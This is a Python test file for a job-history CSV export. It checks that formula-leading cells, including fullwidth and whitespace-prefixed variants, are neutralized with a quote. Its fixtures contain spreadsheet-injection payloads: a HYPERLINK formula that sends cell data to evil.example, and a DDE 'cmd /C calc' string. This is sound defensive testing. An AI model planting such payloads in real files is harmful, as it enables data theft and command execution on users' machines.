"""The job-history export never writes a cell a spreadsheet would run as a formula."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any, cast

import pytest

from jobs.kinds.export_jobs import ExportParams, _neutralize
from jobs.kinds.export_jobs import run as export_run
from jobs.models import Job, JobState
from tests.jobs.factories import make_job

# Every character a spreadsheet starts a formula with: ASCII, fullwidth (what a Japanese or Chinese
# IME types), the small forms, and the Unicode minus sign.
FORMULA_CHARACTERS = [
    *"=+-@",
    *"\uff1d\uff0b\uff0d\uff20",  # fullwidth = + - @
    *"\ufe66\ufe62\ufe63\ufe6b",  # small = + - @
    "\u2212",  # minus sign
]
# What spreadsheets trim or do not show before deciding: spaces of every kind, controls, and
# invisible format characters.
LEADING_BLANKS = [
    " ",
    "  ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u3000",
    "\u2003",
    "\u200b",
    "\ufeff",
    " \t\u3000",
]


@pytest.mark.parametrize("start", FORMULA_CHARACTERS)
def test_a_cell_starting_with_a_formula_character_is_quoted(start):
    value = f'{start}HYPERLINK("https://evil.example/?x="&A1,"Click")'
    assert _neutralize(value) == "'" + value


@pytest.mark.parametrize("blank", LEADING_BLANKS, ids=repr)
@pytest.mark.parametrize("start", FORMULA_CHARACTERS)
def test_a_formula_after_leading_whitespace_is_quoted(blank, start):
    value = f"{blank}{start}1+1"
    assert _neutralize(value) == "'" + value


@pytest.mark.parametrize("control", ["\t", "\r", "\n"], ids=repr)
def test_a_cell_starting_with_a_tab_or_line_break_is_quoted_whatever_follows(control):
    assert _neutralize(control + "text") == "'" + control + "text"


@pytest.mark.parametrize(
    "value", ["", "plain", "1=1", "a+b", "e-mail@example.com", "   ", "\u00a0", "x \uff1d 1", "(=1)", "'=1"]
)
def test_other_cells_are_left_alone(value):
    assert _neutralize(value) == value


def test_the_written_csv_reads_back_as_text_for_every_formula_start():
    """What a spreadsheet receives: the quoted cell survives CSV quoting unchanged."""
    cells = [blank + start + "cmd|' /C calc'!A0" for start in FORMULA_CHARACTERS for blank in ["", " "]]
    out = io.StringIO()
    csv.writer(out).writerow([_neutralize(cell) for cell in cells])
    read = next(csv.reader(io.StringIO(out.getvalue())))
    assert read == ["'" + cell for cell in cells]


class FakeContext:
    """Just what the export kind uses of ``ctx``, writing its file under ``directory``."""

    cancelled = False

    def __init__(self, owner_id, directory):
        self.owner_id, self.job_id, self.directory = owner_id, None, directory

    def progress(self, *args):
        pass

    def log(self, line):
        pass

    def open_result_file(self, filename, mode="w", **kwargs):
        self.path = self.directory / filename
        return self.path.open(mode, **kwargs)


@pytest.mark.django_db
def test_the_export_quotes_every_formula_cell_it_writes(make_user, tmp_path):
    from jobs.kinds.export_jobs import ExportParams, run
    from jobs.models import JobState
    from tests.jobs.factories import make_job

    owner = make_user()
    errors = [blank + start + "2+3" for start in FORMULA_CHARACTERS for blank in ("", " ", "\u3000")]
    for error in errors:
        make_job(owner=owner, state=JobState.FAILED, error=error)
    ctx = FakeContext(owner.pk, tmp_path)

    assert run(ctx, ExportParams())["rows"] == len(errors)

    with ctx.path.open(newline="", encoding="utf-8") as written:
        rows = list(csv.DictReader(written))
    assert sorted(row["error"] for row in rows) == sorted("'" + error for error in errors)
    for row in rows:
        for cell in row.values():
            assert not cell or cell.startswith("'") or cell.lstrip()[:1].isalnum() or cell[:1] == "{", cell


def exported_rows(owner_id, directory) -> dict[str, dict[str, str]]:
    """The export ``owner_id`` gets, read back as CSV: its rows by job id."""
    ctx = FakeContext(owner_id, directory)
    export_run(cast(Any, ctx), ExportParams.model_validate({}))
    with ctx.path.open(newline="", encoding="utf-8") as written:
        reader = csv.DictReader(written)
        rows = {row["id"]: row for row in reader}
    assert reader.fieldnames == [
        "id", "kind", "label", "state", "created_at", "started_at", "finished_at", "duration_seconds",
        "queue_wait_seconds", "progress_current", "progress_total", "error", "params",
    ]  # fmt: skip
    return rows


@pytest.mark.django_db
def test_the_export_has_iso_times_duration_and_queue_wait_in_seconds(make_user, tmp_path):
    owner = make_user()
    created = datetime(2026, 3, 1, 9, 0, 0, tzinfo=UTC)
    done = make_job(owner=owner, state=JobState.SUCCEEDED, started_at=created + timedelta(seconds=2.5),
                    finished_at=created + timedelta(seconds=74.25))  # fmt: skip
    running = make_job(owner=owner, state=JobState.RUNNING, started_at=created + timedelta(seconds=0.125))
    waiting = make_job(owner=owner, state=JobState.QUEUED)
    # The worker's clock a little behind the web's: never a negative wait.
    skewed = make_job(owner=owner, state=JobState.SUCCEEDED, started_at=created - timedelta(seconds=0.2),
                      finished_at=created + timedelta(seconds=1))  # fmt: skip
    Job.objects.filter(pk__in=[done.pk, running.pk, waiting.pk, skewed.pk]).update(created_at=created)

    rows = exported_rows(owner.pk, tmp_path)

    row = rows[str(done.pk)]
    assert row["created_at"] == "2026-03-01T09:00:00+00:00"
    assert datetime.fromisoformat(row["started_at"]) == created + timedelta(seconds=2.5)
    assert datetime.fromisoformat(row["finished_at"]).utcoffset() == timedelta(0)
    timings = {
        name: (rows[str(job.pk)]["duration_seconds"], rows[str(job.pk)]["queue_wait_seconds"])
        for name, job in [("done", done), ("running", running), ("waiting", waiting), ("skewed", skewed)]
    }
    assert timings == {
        "done": ("71.75", "2.5"),
        "running": ("", "0.125"),
        "waiting": ("", ""),
        "skewed": ("1.2", "0.0"),
    }
    assert rows[str(waiting.pk)]["started_at"] == ""


@pytest.mark.django_db
def test_params_are_json_that_reads_back_even_when_their_values_look_like_formulas(make_user, tmp_path):
    owner = make_user()
    hostile = {
        "title": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "body": "+1\n@SUM(A1)\t-2",
        "n": 10_000_000_000,
        "ratio": -0.5,
        "flag": True,
        "nothing": None,
        "name": "Zoë 😀 \uff1d1",
    }
    job = make_job(owner=owner, state=JobState.SUCCEEDED, params=hostile)

    (row,) = exported_rows(owner.pk, tmp_path).values()

    assert row["id"] == str(job.pk)
    assert row["params"].startswith("{") and "\n" not in row["params"]  # a spreadsheet reads it as text
    assert json.loads(row["params"]) == hostile  # JSON, not a Python repr ({'n': ...}, True, None)
